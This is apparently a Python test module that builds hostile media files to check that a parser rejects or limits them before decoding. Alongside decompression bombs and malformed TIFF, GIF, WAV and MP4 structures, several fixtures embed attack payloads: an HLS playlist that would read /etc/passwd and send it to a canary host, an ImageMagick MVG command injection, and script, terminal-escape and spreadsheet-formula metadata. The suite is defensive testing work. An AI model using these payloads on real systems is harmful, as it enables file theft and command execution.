"""Hostile pictures and recordings: their heads are weighed before anything is decoded."""

from __future__ import annotations

import struct
import zlib

from tests.hostile.expect import NOT, PARTLY, READ, Expect, canary, case
from tests.hostile.make import chunk, grey, png

ANY = (READ, PARTLY, NOT)
FAULTS = ("over-limit", "malformed", "damaged", "truncated", "unreadable", "not-read", "missing", "empty")
SOME = Expect((PARTLY, NOT), ("|".join(FAULTS),), may=FAULTS)


@case("media", "vast.png", SOME)
def vast(big: bool) -> bytes:
    """Sixty thousand pixels each way."""
    return png(60_000, 60_000, grey(100, 1))


@case("media", "pixels-bomb.png", SOME)
def pixels(big: bool) -> bytes:
    """A small picture whose packed pixels are without end."""
    return png(8, 8, zlib.compress(bytes(1_000_000_000 if big else 20_000_000), 9))


@case("media", "text-bomb.png", Expect((READ, PARTLY), ("over-limit|malformed|damaged|not-read",), may=FAULTS))
def text_bomb(big: bool) -> bytes:
    """A comment that unpacks without end."""
    packed = zlib.compress(b"a" * (1_000_000_000 if big else 20_000_000), 9)
    return png(8, 8, grey(8, 8), chunk(b"zTXt", b"Comment\0\0" + packed))


@case("media", "no-size.png", SOME)
def no_size(big: bool) -> bytes:
    """A picture of no width."""
    return png(0, 0, grey(1, 1))


def exif(text: bytes, offset: int = 8) -> bytes:
    """A TIFF of one field, an artist; `offset` is where its directory is said to lie."""
    return b"II*\0" + struct.pack("<L", offset) + struct.pack("<HHHLLL", 1, 0x13B, 2, len(text), 26, 0) + text


def jpeg(segment: bytes) -> bytes:
    """The head of a JPEG with metadata, and no picture."""
    head = b"\xff\xd8\xff\xe1" + struct.pack(">H", len(segment) + 8) + b"Exif\0\0" + segment
    return head + b"\xff\xc0\0\x0b\x08\0\x08\0\x08\x01\x01\x11\0\xff\xd9"


@case("media", "markup.jpg", Expect((READ, PARTLY), may=FAULTS))
def markup(big: bool) -> bytes:
    """Metadata of markup and of escapes."""
    return jpeg(exif(f"<script src={canary('exif')}></script>\x1b[2J=cmd|'/C calc'!A0\0".encode()))


@case("media", "loop.tif", Expect(ANY, may=FAULTS))
def tiff_loop(big: bool) -> bytes:
    """A directory that is its own successor."""
    return b"II*\0" + struct.pack("<LH", 8, 1) + struct.pack("<HHLL", 0x100, 3, 1, 8) + struct.pack("<L", 8)


@case("media", "lies.gif", Expect(ANY, may=FAULTS))
def gif_lies(big: bool) -> bytes:
    """Frames far outside of the screen, with a colour table that is not there."""
    frame = b",\xff\xff\xff\xff\xff\xff\xff\xff\x87\x02\x02L\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0xF7, 0, 0) + frame * (20_000 if big else 500)


@case("media", "program.jpg", Expect((NOT, PARTLY), ("unreadable",)))
def program(big: bool) -> bytes:
    """A program of Windows that is called a picture."""
    return b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(44) + struct.pack("<L", 64) + b"PE\0\0d\x86" + bytes(range(256)) * 4


def riff(kind: bytes, *blocks: tuple[bytes, int, bytes]) -> bytes:
    """A RIFF file of blocks with a name, the length that they state, and bytes."""
    body = b"".join(name + struct.pack("<L", size) + data for name, size, data in blocks)
    return b"RIFF" + struct.pack("<L", 0xFFFFFFF0) + kind + body


@case("media", "lies.wav", Expect(ANY, may=FAULTS))
def wav_lies(big: bool) -> bytes:
    """Blocks that state four gigabytes, or less than nothing."""
    shape = struct.pack("<HHLLHH", 1, 2, 44_100, 176_400, 4, 16)
    return riff(b"WAVE", (b"fmt ", 16, shape), (b"LIST", 0xFFFFFFFF, b"INFOIART" + b"\xff\xff\xff\x7fx"), (b"data", 0xFFFFFFFE, b"\0" * 64))


@case("media", "no-rate.wav", Expect(ANY, may=FAULTS))
def no_rate(big: bool) -> bytes:
    """A recording of no samples a second: its length would be a division by nothing."""
    return riff(b"WAVE", (b"fmt ", 16, struct.pack("<HHLLHH", 1, 0, 0, 0, 0, 0)), (b"data", 8, bytes(8)))


@case("media", "loop.mp4", Expect(ANY, may=FAULTS))
def mp4_loop(big: bool) -> bytes:
    """Atoms of no length, of a length that leads back, and a thousand inside one another."""
    inner = b""
    for _ in range(1_000):
        inner = struct.pack(">L", len(inner) + 8) + b"moov" + inner
    return struct.pack(">L", 24) + b"ftypM4A " + bytes(4) + b"M4A isom" + inner + struct.pack(">L", 0) + b"udta" + struct.pack(">LQ", 1, 2**63) + b"mdat"


@case("media", "playlist.avi", Expect(ANY, may=FAULTS))
def playlist(big: bool) -> bytes:
    """A playlist inside a film that would read a file and send it away (after CVE-2016-1897)."""
    text = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{canary('hls')}|file:///etc/passwd\n#EXT-X-ENDLIST\n".encode()
    return riff(b"AVI ", (b"LIST", len(text) + 4, b"movi" + text))


@case("media", "vectors.png", Expect(ANY, may=FAULTS))
def mvg(big: bool) -> bytes:
    """Drawing commands under the name of a picture, which would start a program (after CVE-2016-3714)."""
    return f"push graphic-context\nviewbox 0 0 640 480\nfill 'url({canary('mvg')}\"|touch \"/tmp/owned)'\npop graphic-context\n".encode()


@case("media", "script.gif", Expect(ANY, may=FAULTS))
def gif_script(big: bool) -> bytes:
    """A picture that is a script as well."""
    return b"GIF89a/*" + bytes(9) + b"*/=1;alert(1);//" + bytes(20)
